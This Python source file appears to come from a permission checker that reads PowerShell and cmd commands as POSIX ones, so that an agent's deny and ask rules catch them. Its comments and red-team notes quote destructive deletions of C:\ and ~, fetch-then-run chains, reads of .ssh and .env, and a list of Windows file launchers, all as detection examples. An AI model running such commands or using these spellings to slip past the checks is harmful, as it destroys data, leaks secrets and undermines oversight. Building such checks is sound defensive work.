# (`Write-Output "Node: $env:NODE_ENV"`) prints their values and names no place, as `echo $env:PATH` does
# (which variables may be printed is windows_machine_change's: a secret asks there). red team: nothing else is
# expanded in it (no other `$`, backtick), it spells no place (`\`, `/`, `~`, `..`), and each variable stands
# apart from the text around it (`$env:USERPROFILE\.ssh` is `$env:USERPROFILE.ssh` to the shell reader).
_ENV_IN_TEXT = re.compile(r"(?i)(?<![^\s=:(,])\$env:[A-Za-z_]\w*(?=[\s,;=)]|\Z)")
_TEXT_LEFT = re.compile(r"[^$`\\/~]*").fullmatch
_TEXT_PRINTERS = frozenset({"write-output", "write-host", "echo"})


def environment_printed(words: Sequence[str], k: int) -> bool:
    """Whether ``words[k]`` is such a word of text given to a printer leading its statement (see above)."""
    word = words[k]
    left = _ENV_IN_TEXT.sub("", word)
    if left == word or ".." in left or _TEXT_LEFT(left) is None:
        return False
    start = k
    while start and words[start - 1] != "{":  # the statement: from the segment's or its script block's start
        start -= 1
    return start < k and words[start].lower() in _TEXT_PRINTERS


# PowerShell's cmdlets (and aliases) that make or remove a drive
_DRIVE_CHANGE = re.compile(r"(?i)psdrive|(?<![\w-])(?:mount|ndr|rdr)(?![\w-])")


def powershell_values(command: str) -> bool:
    """The cheap filter of :func:`powershell_value`, asked once per command off the sandbox: whether ``command``
    may hold such a statement, and gives bash's `env` no value of its own."""
    return ("$env:" in command or ".." in command or ")." in command) and (
        "env" not in command.replace("$env:", "") or _BASH_ENV_NAMED.search(command) is None
    )


def env_drive_kept(command: str) -> bool:
    """Whether ``command`` makes or removes no drive, so that `$env:NAME` is the environment's (see above)."""
    return _DRIVE_CHANGE.search(command) is None


def powershell_value(text: str, command: str) -> bool:
    """Whether the segment ``text`` of ``command`` (one :func:`powershell_values` accepts) is one of PowerShell's
    statements that only set or print a value (see above): a segment of no act of its own."""
    c = text[:1]
    if c == "$":
        return text[:5] == "$env:" and _PS_ASSIGNMENT.fullmatch(text) is not None and env_drive_kept(command)
    if c == ".":
        # every `.Count` of the text stands right after a `)`: bash reads none of them as a command (but after a
        # `case` pattern's, `case x in x).Count;; esac`)
        return (
            _PS_PROPERTY.fullmatch(text) is not None
            and command.count(text) == command.count(")" + text)
            and "esac" not in command
        )
    return (c.isdigit() or c == "-") and _PS_RANGE.fullmatch(text) is not None


# -- PowerShell's statements bash's reader stops at, read as the commands they run -----------------------------

# SPEC §5, R4.7, R4.9: two statements of PowerShell's that bash reads as a syntax error (a `(` after a command's
# words: bash runs nothing of that line, cmd finds no program `foreach` or `Join-Path`), read as PowerShell runs
# them, in the words the rest of the reading already knows:
# - `(Get-Location)` (`(gl)`, `(pwd)`) given as an argument is the folder the command is in: `$PWD` (as written,
#   which the path scope reads so: a command that gives `$PWD` a value or moves first is read as before).
#   Any other sub-expression (`Join-Path (Remove-Item x) y`, `Get-Content (Get-Item ..\x)`) stays unread.
# - `foreach ($f in <pipeline>) { <statements> }` runs the statements for each item the pipeline printed, as
#   `<pipeline> | ForEach-Object { <statements> }` does with `$f` spelt `$_`: the pipeline and each statement
#   are read as segments and script-block statements are, and the item is a listed file only where a listing of
#   the project feeds it (permissions.where). red team: only where the loop leads the command or follows `;` or
#   a new line outside any block, its pipeline holds no parenthesis, brace, variable, quote, backtick, `=`, `&`,
#   `;`, `@` (a splat) or `#` (a comment), and its block holds no inner block, `=` (the variable set again),
#   backtick, new line, `@`, `#`, `$_` or `$PSItem` (whose meaning the rewriting would change), nor a call
#   operator (`& $f`, `. $f`: the item run as a script); a `case` anywhere in the command leaves it unread
#   (`case x in (pwd) ...` is bash's own pattern).
# - `(Join-Path $PWD src)` (and Resolve-Path, Split-Path, Convert-Path, Get-Item, Get-ChildItem, whose output is
#   a place made of their own words) given as an argument is `$(Join-Path $PWD src)`, as PowerShell also spells
#   it: the sub-expression's command is a segment judged on its own, its words checked by the path scope, as
#   bash's command substitution is. red team: only those cmdlets (not Get-Location's -PSProvider or -Stack, not
#   Get-Content: a list of places read from a file), and a sub-expression of no parenthesis, bracket, brace,
#   `;`, `&`, `|`, backtick, `@`, `#`, double quote or new line, after a command's word.
_SUB_LOCATION = re.compile(r"(?i)(?<=[\w'\"-][ \t])\((?:get-location|gl|pwd)\)(?=[ \t;|]|\Z)")
_PLACE_MAKERS = r"join-path|resolve-path|rvpa|split-path|convert-path|cvpa|get-item|gi|get-childitem|gci"
_SUB_PLACE = re.compile(
    rf"(?i)(?<=[\w'\")-][ \t])\(((?:{_PLACE_MAKERS})[ \t][^()\[\]{{}};&|`@#\"\n]*)\)(?=[ \t;|)]|\Z)"
)
_FOREACH = re.compile(
    r"(?i)(?:^|(?<=[;\n]))([ \t]*)foreach[ \t]*\([ \t]*\$([a-z]\w*)[ \t]+in[ \t]+([^(){};&\n=`$'\"@#]+?)[ \t]*\)"
    r"[ \t]*\{([^{}=`\n@#&]*)\}"
)
_KEPT_UNREAD = re.compile(r"(?i)\$(?:_|psitem)(?!\w)|(?:^|[\s;|])\.(?:\s|\Z)")
_AUTOMATIC = frozenset(
    {"_", "psitem", "input", "args", "this", "pwd", "home", "env", "true", "false", "null"}
)
# - `Compare-Object (Get-Content a) (Get-Content b)`: a file's lines given to Compare-Object (`compare`, `diff`) or
#   to a printer (`Write-Host`, `Write-Output`, `echo`) are values compared or printed, not places: `(Get-Content
#   X)` (`gc`, `cat`, `type`) and `(Get-Date)` there are `$(Get-Content X)`, `$(Get-Date)`, the file read as a
#   segment of its own. red team: only in a statement one of them leads, with the sub-expression's words as
#   _SUB_PLACE takes them (and no `$`).
# - a script block's statement that only makes text of the pipeline item by a string's methods
#   (`ForEach-Object { $_.Line.Trim() }`, `$_.Name.ToUpper()`, `$_.ToString()`) is that value without its calls
#   (`$_.Line.Trim`): a statement led by a value, no command of its own. red team: only the methods of
#   _TEXT_METHODS (no `Replace`: FileInfo's replaces a file; no `Delete`, `MoveTo`, `CopyTo`), literal
#   arguments (no variable, parenthesis, brace, bracket, backtick, `@`, `;`), the whole statement after `{` or `;`.
_COMPARED = re.compile(
    r"(?im)(?:^|(?<=[;\n]))[ \t]*(?:compare-object|compare|diff|write-host|write-output|echo)[ \t][^;\n|&{}]*"
)
_SUB_READ = re.compile(
    r"(?i)(?<=[\w'\")-][ \t])\(((?:get-content|gc|cat|type)[ \t][^()\[\]{};&|`@#\"\n$]*|get-date)\)"
    r"(?=[ \t;|)]|\Z)"
)
_VALUE_TAKERS = frozenset({"compare-object", "compare", "diff", "write-host", "write-output", "echo"})
_TEXT_METHODS = (
    r"(?:trim|trimstart|trimend|toupper|tolower|tostring|substring|split|startswith|endswith|contains|indexof"
    r"|lastindexof|padleft|padright|toupperinvariant|tolowerinvariant)"
)
_TEXT_CALLS = re.compile(
    rf"(?i)(?<=[{{;])([ \t]*\$(?:_|psitem))((?:\.\w+)*(?:\.{_TEXT_METHODS}[ \t]*\([^()$`@;{{}}\[\]\n]*\)"
    r"(?:\.\w+)*)+)(?=[ \t]*[;}])"
)
_CALL_ARGS = re.compile(r"[ \t]*\([^()]*\)")
_PS_STATEMENT_CUES = re.compile(
    rf"(?i)\((?:get-location|gl|pwd)\)|\((?:{_PLACE_MAKERS})[ \t]|foreach|esac|(?<![\w-])case(?![\w-])"
    r"|(?<![\w-])(?:compare-object|compare|diff|write-host|write-output|echo)(?![\w-])|\$(?:_|psitem)\.[\w.]*\("
)


# - session 26: a double-quoted string whose last character is a backslash (`$p = "C:\"; Remove-Item $p -Recurse`)
#   is closed there -- PowerShell and cmd read no backslash escape -- where bash reads an escaped quote and the
#   rest of the line inside the string: it is the single-quoted string of the same text (`'C:\'`), which both
#   read alike, so the rest of the line is read as the statements it is (the floor's values read `$p`). red
#   team: only a whole word's string (after a blank, `=`, `(`, `,`, `;` or `|`), of no quote, backtick, `$` or
#   new line, and only in a command holding no `$(` and no backtick -- there bash's reading of the original,
#   which runs a substitution inside the string it sees, would be hidden by the single quotes.
_SLASHED = re.compile(r"""(?<![^\s=(,;|])"([^"'`$\n]*\\)"(?=[\s;|),]|\Z)""")


def powershell_statements(command: str) -> str | None:
    """``command`` with the statements above spelt as the commands they run, or None when it holds none (or
    the command names bash's `case` or `esac`). The caller reads it only where bash's reader stopped at such a `(`."""
    deletes = DELETION_CUE(command) is not None
    reads = READ_CUE(command) is not None
    named = NAMED_CUE(command) is not None
    moves = MOVE_CUE(command) is not None
    loops = LOOP_CUE(command) is not None
    # (`"C:\"`: bash's escaped quote, PowerShell's closed string; not where bash's own reading may run code)
    slashed = '\\"' in command and "$(" not in command and "`" not in command
    if _PS_STATEMENT_CUES.search(command) is None and not (
        deletes or reads or named or moves or slashed or loops
    ):
        return None
    cues = {m.lower() for m in _PS_STATEMENT_CUES.findall(command)}
    if "esac" in cues or "case" in cues:
        return None
    # R4.6: `(Get-Item C:\).Delete($true)` is `Remove-Item -Recurse C:/`, and `[IO.File]::ReadAllText(x)` is
    # `Get-Content x` (permissions.commands.windows_deletions)
    out = deletions_as_removals(command, piped_members=False) if deletes else command
    out = _SLASHED.sub(r"'\1'", out) if slashed else out  # `$p = "C:\"` is `$p = 'C:\'`
    out = moves_as_mv(out) if moves else out  # `(Get-Item ~).MoveTo('C:\x')` is `mv ~ C:/x`
    out = loops_unrolled(out) if loops else out  # `foreach ($d in 'C:\') { rd -r $d }` is `rd -r 'C:\'`
    out = reads_as_cmdlets(out) if reads else out
    out = places_named(out) if named else out  # `Remove-Item -Recurse (Get-Item ~)` deletes `~`
    out = _SUB_PLACE.sub(_as_substitution, _SUB_LOCATION.sub("$PWD", out))
    if any(c in _VALUE_TAKERS for c in cues):
        out = _COMPARED.sub(_compared, out)
    if any(c[:1] == "$" for c in cues):
        out = _TEXT_CALLS.sub(_text_value, out)
    if "foreach" in cues:
        out = _FOREACH.sub(_as_pipeline, out)
    return out if out != command else None


# PowerShell's keywords a parenthesis follows as a condition or a value, not as a command's argument
_PS_KEYWORDS = frozenset(
    {"if", "elseif", "while", "until", "switch", "for", "foreach", "return", "throw", "in"}
)


def _compared(m: re.Match[str]) -> str:
    return _SUB_READ.sub(lambda r: f"$({r.group(1)})", m.group())


def _text_value(m: re.Match[str]) -> str:
    return m.group(1) + _CALL_ARGS.sub("", m.group(2))


def _as_substitution(m: re.Match[str]) -> str:
    before = m.string[: m.start()].split()
    if before and before[-1].lower() in _PS_KEYWORDS:
        return m.group()
    return f"$({m.group(1)})"


def _as_pipeline(m: re.Match[str]) -> str:
    lead, name, items, body = m.groups()
    depth = m.string.count("{", 0, m.start()) - m.string.count("}", 0, m.start())
    if depth or name.lower() in _AUTOMATIC or _KEPT_UNREAD.search(body) is not None:
        return m.group()
    each = re.sub(rf"(?i)\${name}(?![\w:])", "$_", body)
    return f"{lead}{items.strip()} | ForEach-Object {{ {each.strip()} }}"


# -- PowerShell's and cmd's spellings of the acts a POSIX deny or ask pattern names --------------------------------

# A reading of a segment in POSIX words: (its spellings, whether it is certain). An uncertain one -- read past an
# ambiguous or unknown parameter, a splatted hashtable, a switch or a method given by a variable -- asks when
# a deny or ask pattern matches it (as an operand read at run time does for a POSIX segment).
PosixReading = tuple[tuple[tuple[str, ...], ...], bool]


def posix_spellings(text: str, named: frozenset[str], sure_only: bool = False) -> list[PosixReading]:
    """R4.10 and SPEC §5: the segment ``text`` read as PowerShell and cmd read it, in the words of the POSIX
    program it stands for (permissions.commands.windows_names) -- `Remove-Item -Recurse -Force x` as
    `rm -r -f x`, `rd /s /q x` as `rm -d -r -f x`, `iwr -Me Post u` as `curl -X POST u` -- for the programs of
    ``named`` only (those a deny or ask pattern names); ``sure_only``: its certain readings only (what an ask
    already decided, an uncertain reading cannot change). [] for any other segment."""
    head = text.split(None, 1)
    if not head:
        return []
    name = head[0].lower().rpartition("\\")[2]
    if name not in _WINDOWS_NAMES:
        if name not in _KEYWORD_HEADS and head[0][0] not in _ODD_HEADS and _ODD(head[0]) is None:
            return []  # the common case: a first word no table here names, read as it stands
        name = _first_name(text) or ""  # a keyword, `call` or `@` before it, or quoted: read in full
        if name and name not in _WINDOWS_NAMES:
            return []
    ps = POWERSHELL.get(name) if name else None
    row = CMD.get(name) if name else None
    if name and (ps is None or ps[1] not in named) and (row is None or not named & _CMD_PROGRAMS[name]):
        return []  # no deny or ask pattern names the program it stands for
    if (
        row is None
        and ps is not None
        and name in _SAME_NAMED
        and "@" not in text
        and "\\" not in text
        and not _names_a_parameter(text.split(), _PARAMETER_STARTS[ps[0]])
    ):
        # the POSIX program's own words (`rm -rf x`, `cp -la a b`), read as they stand already -- unless a `\\`
        # writes a Windows path (`cat .\\.env`: PowerShell reads `.env`, bash `..env`)
        return []
    words = windows_words(text)
    if not words:
        return []
    first = words[0].lower().rpartition("\\")[2]
    out: list[PosixReading] = []
    ps = POWERSHELL.get(first)
    if ps is not None and ps[1] in named:
        out.extend(_powershell_posix(words, ps[0], ps[1], first in _SAME_NAMED, sure_only))
    row = CMD.get(first)
    if row is not None:
        program, options, operands = _cmd_posix(words, row)
        if program in named and (options or not out):  # (with no switch, PowerShell's reading says as much)
            out.append((_spelt(program, options, operands), True))
    return out


def _powershell_posix(
    words: list[str], cmdlet: str, program: str, shared: bool, sure_only: bool
) -> list[PosixReading]:
    """A cmdlet's words as its POSIX program's: its certain reading, then its uncertain one if it has one. For a
    name a POSIX program answers to (``shared``) the certain reading is given only when it names one of the
    cmdlet's parameters or holds a Windows path: without either it says no more than the program's own reading,
    matched already."""
    table = PARAMETERS[cmdlet]
    sure: list[str] = []
    maybe: list[str] = []
    operands: list[str] = []
    last: list[str] = []
    widest = False
    powershells = False
    k = 1
    n = len(words)
    while k < n:
        w = words[k]
        k += 1
        if w in ("--", "--%"):
            operands.extend(words[k:])
            break
        if w[:1] == "@" and len(w) > 1 and w[1] not in "{(":
            widest = True  # a splatted hashtable: its parameters are not in the text
            continue
        if w[:1] != "-" or len(w) < 2 or w[1] == "-" or w[1].isdigit():
            operands.append(w)
            continue
        pname, colon, glued = w[1:].partition(":")
        rows = _parameter_rows(table, pname.lower())
        if not rows:
            # PowerShell refuses a name it does not know: the POSIX program's own option, or one read as any
            widest = widest or not shared
            continue
        powershells = True  # (`cat -Raw .env` is PowerShell's, read as `cat .env` though -Raw gives no word)
        value: str | None = glued if colon else None
        if not colon and k < n and all(kind != SWITCH for kind, _ in rows):
            value = words[k]
            k += 1
        into = sure if len(rows) == 1 else maybe
        for kind, posix in rows:
            widest = _posix_words(kind, posix, value, colon, into, operands, last) or widest
    readings: list[PosixReading] = []
    if sure or not shared or powershells or any("\\" in w for w in operands + last):  # (`cat .\\.env`)
        readings.append((_spelt(program, sure, operands + last), True))
    if widest and not sure_only:
        readings.append((_spelt(program, [*WIDEST[program], *sure], operands + last), False))
    elif maybe and not sure_only:
        readings.append((_spelt(program, sure + maybe, operands + last), False))
    return readings


def _posix_words(
    kind: int,
    posix: tuple[str, ...],
    value: str | None,
    colon: str,
    into: list[str],
    operands: list[str],
    last: list[str],
) -> bool:
    """One parameter's POSIX words added to ``into`` (its value to ``operands`` or ``last``); True when what it
    gives is decided only when it runs (a switch or a method given by a variable or an expression)."""
    if kind == SWITCH:
        if colon and value is not None:
            v = value.lower()
            if v in ("$false", "0"):
                return False
            if v not in ("$true", "1"):
                return True  # given by a variable or an expression: the widest reading
        into.extend(posix)
    elif value is None:
        return False
    elif kind == OPERAND:
        operands.append(value)
    elif kind == LAST:
        last.append(value)
    elif kind == OPTION:
        for p in posix:
            into.extend((p, value))
    elif kind == METHOD:
        if value[:1] in "$(@":
            return True
        if value.lower() not in READ_METHODS:
            into.extend((posix[0], value.upper()))
    return False


def _names_a_parameter(words: Sequence[str], starts: frozenset[str]) -> bool:
    """Under a name a POSIX program answers to (`rm`, `curl`): some word names one of the cmdlet's parameters
    (their first two letters: ``starts``) by two letters or more (`-Recurse`, `-fo`, `-Me:Post`) -- a POSIX
    cluster (`-rf`, `-la`) names none; a single letter (`-r`) means what the POSIX program's own option does,
    or is ambiguous to PowerShell."""
    return any(len(w) > 2 and w[0] == "-" and w[1] != "-" and w[1:3].lower() in starts for w in words)


def texts_to_spell(segments: Sequence[Segment], texts: Sequence[str], start: int) -> list[int]:
    """Which of ``texts`` from ``start`` on (the first led text: windows_readings) posix_spellings must read --
    none before it names a program it spells. Its own first tests, made here from each segment's parsed
    words when ``texts`` are the segments' own (one each, no script block's statements among them) and a text
    starts with its first word as written (a plain name: no quote, keyword, `@` or escape before or in it) -- a
    first word no table names, or a POSIX program's own words with no word naming one of its cmdlet's
    parameters (`rm -la x`), is left out without reading the text again. One loop, its look-ups bound once: a
    long chain asks it of every segment."""
    if len(segments) != len(texts):
        return list(range(start, len(texts)))
    gate = _SPELT_GATE
    keywords = _KEYWORD_HEADS
    out = []
    for i in range(start, len(segments)):
        words = segments[i].words
        if words:
            first = words[0]
            head = first.lower()
            if (
                head[:1].isalpha()
                and "^" not in head
                and "`" not in head
                and head not in keywords
                and texts[i].startswith(first)
            ):
                if head not in gate:
                    continue
                starts = gate[head]
                text = texts[i]
                if (
                    starts is not None
                    and "@" not in text
                    and "\\" not in text
                    and not _names_a_parameter(words, starts)
                ):
                    continue
        out.append(i)
    return out


def _parameter_rows(
    table: dict[str, tuple[int, tuple[str, ...]]], name: str
) -> list[tuple[int, tuple[str, ...]]]:
    """The rows a typed parameter name may be: its own (a whole name or alias), else every name it abbreviates."""
    row = table.get(name)
    if row is not None:
        return [row]
    if not name:
        return []
    return [r for full, r in table.items() if full.startswith(name) and full not in ALIASES]


def _cmd_posix(
    words: list[str], row: tuple[str, dict[str, tuple[str, ...]], tuple[str, ...]]
) -> tuple[str, list[str], list[str]]:
    """cmd's command as its POSIX program's: (the program, its options, its operands)."""
    program, switches, base = row
    options = list(base)
    operands: list[str] = []
    for w in words[1:]:
        if w[:1] != "/" or len(w) < 2:
            operands.append(w)
            continue
        parts = [p.partition(":")[0].lower() for p in w[1:].split("/")]
        known = [switches[p] for p in parts if p in switches]
        if not known and not _switch(w):
            operands.append(w)  # a path cmd would not take for a switch
        for posix in known:
            for p in posix:
                if p[:1] == "=":
                    program = p[1:]
                else:
                    options.append(p)
    return program, options, operands


def _spelt(program: str, options: list[str], operands: list[str]) -> tuple[tuple[str, ...], ...]:
    """The POSIX words, options first (each once); for a program matched literally, also in its other spellings
    (windows_names.ALSO_SPELT) and clustered."""
    opts = list(dict.fromkeys(options)) if program != "curl" else options
    words = (program, *opts, *operands)
    alt = ALSO_SPELT.get(program)
    if alt is None or not opts:
        return (words,)
    out = [words]
    for i in range(max(len(a) for a in alt.values())):
        out.append((program, *(alt[o][i] if o in alt and i < len(alt[o]) else o for o in opts), *operands))
    short = [o[1] for o in opts if len(o) == 2]
    if len(short) > 1:
        out.append((program, "-" + "".join(short), *operands))
        out.append((program, "-" + "".join(reversed(short)), *operands))
    return tuple(out)


_WINDOWS_NAMES = frozenset(POWERSHELL) | frozenset(CMD)
# Each cmdlet's parameters (names and aliases) by their first two letters (_names_a_parameter).
_PARAMETER_STARTS = {cmdlet: frozenset(name[:2] for name in table) for cmdlet, table in PARAMETERS.items()}
# The programs a cmd name may be read as (robocopy's /mov makes it mv)
_CMD_PROGRAMS = {
    name: frozenset({program, *(p[1:] for ps in switches.values() for p in ps if p[:1] == "=")})
    for name, (program, switches, _) in CMD.items()
}
# The names of SHARED whose cmdlet stands for the POSIX program of the same name (`rm`, `cp`, `curl`): their words
# without a parameter of the cmdlet's are that program's own, read already. red team: Windows PowerShell's `wget`
# is Invoke-WebRequest, curl to the rules, where the POSIX wget is another program: `wget https://x` is read as
# `curl https://x` too (a deny of curl refuses it as it refuses `iwr https://x`).
_SAME_NAMED = frozenset(name for name in SHARED if POWERSHELL.get(name, ("", ""))[1] == name)
# What may hide the command's name (_LEADING): a keyword or `call`, `!`, a brace or parenthesis, `@`s; a quote,
# PowerShell's or cmd's escape.
_KEYWORD_HEADS = frozenset({"do", "then", "else", "elif", "time", "call", "."})
# texts_to_spell's gate before posix_spellings, by a segment's first word as parsed (lower case): absent, no table here
# names it; None, read the segment; else the two-letter starts of the parameters of the cmdlet a POSIX
# program's own name also stands for (`rm`, `curl`): read it only when a word names one (_names_a_parameter).
_SPELT_GATE: dict[str, frozenset[str] | None] = {
    name: (_PARAMETER_STARTS[POWERSHELL[name][0]] if name in _SAME_NAMED and name not in CMD else None)
    for name in _WINDOWS_NAMES
}
_ODD_HEADS = frozenset("!{(@\"'`^")


# R4.9 and SPEC §5, red team: what runs a file it is given on Windows (PowerShell's and cmd's own, the script
# hosts, the installers), beside the file run by its own name (`.\x.ps1`, `& .\x.ps1`, `. .\x.ps1`, `x.exe`).
_RUNS_A_FILE = frozenset(
    "powershell powershell.exe pwsh pwsh.exe start-process saps start invoke-item ii cmd cmd.exe start-job sajb"
    " import-module ipmo wscript wscript.exe cscript cscript.exe mshta mshta.exe rundll32 rundll32.exe regsvr32"
    " regsvr32.exe msiexec msiexec.exe bash sh python python3 py node call".split()
)


def _run_key(word: str) -> str:
    """A file's name as written and as run compare: separators `/`, no leading `./`, in lower case (Windows)."""
    w = word.strip("\"'").replace("\\", "/").lower()
    while w.startswith("./"):
        w = w[2:]
    return w


# Whether a command may run a file at all, as Windows runs one: a segment led by `.\\`, `./`, `&` or `. `, a word
# naming what runs a file, or a file with an extension Windows runs (decide's cheap filter, one search).
_MAY_RUN_A_FILE = re.compile(
    r"(?i)(?:^|[;&|\n(])\s*(?:\.[\\/]|\.\s)|(?:^|[;|\n(\s])&\s+[^\s&]|(?:^|\s)(?:"
    + "|".join(sorted(map(re.escape, _RUNS_A_FILE), key=len, reverse=True))
    + r")(?:\s|$)|\.(?:exe|com|bat|cmd|vbs|vbe|jse?|wsf|msi|hta|ps1|psm1|py|sh)\b"
).search


# The deleters, by their names in PowerShell and cmd too, and the makers of an empty folder: what they "write" holds
# nothing a later segment could run -- PowerShell's mkdir is New-Item's, whose -Value (any abbreviation) writes, so
# a maker counts only with no option but bash's -p.
_DELETERS = frozenset({"rm", "rmdir", "rd", "del", "erase", "ri", "remove-item", "unlink"})
_FOLDER_MAKERS = frozenset({"mkdir", "md"})


def _holds_nothing(text: str) -> bool:
    words = text.split()
    lead = words[0].lower() if words and ">" not in text else ""
    return lead in _DELETERS or (
        lead in _FOLDER_MAKERS and all(w[:1] != "-" or w in ("-p", "--parents") for w in words[1:])
    )


def windows_runs_written(texts: Sequence[str]) -> bool:
    """R4.9 off the sandbox: whether a segment runs a file an earlier one wrote as PowerShell and cmd read them
    (`iwr URL -OutFile x.ps1; .\\x.ps1`, `sc x.ps1 '...'; & ./x.ps1`, `curl.exe -o x.exe URL; Start-Process x.exe`):
    what it runs no rule read (commands.runs_a_written_file reads the shell's spellings)."""
    written: set[str] = set()
    # the written files' names: a segment naming none of them runs none (the common case)
    names: set[str] = set()
    for text in texts:
        low = text.lower() if names else ""
        if names and any(name in low for name in names):
            words = windows_words(text)
            if words and (
                _run_key(words[0]) in written
                or (words[0].lower() in _RUNS_A_FILE and any(_run_key(w) in written for w in words[1:]))
            ):
                return True
        if _holds_nothing(text):
            continue  # an empty folder or a deleted path runs nothing (`rm -rf .venv && python3 -m venv .venv`)
        for target, _ in windows_writes(text):
            key = _run_key(target)
            written.add(key)
            names.add(key.rpartition("/")[2])
    return False


def may_run_a_file(command: str) -> bool:
    """decide's cheap filter before windows_runs_written: whether ``command`` may run a file as Windows does."""
    return _MAY_RUN_A_FILE(command) is not None
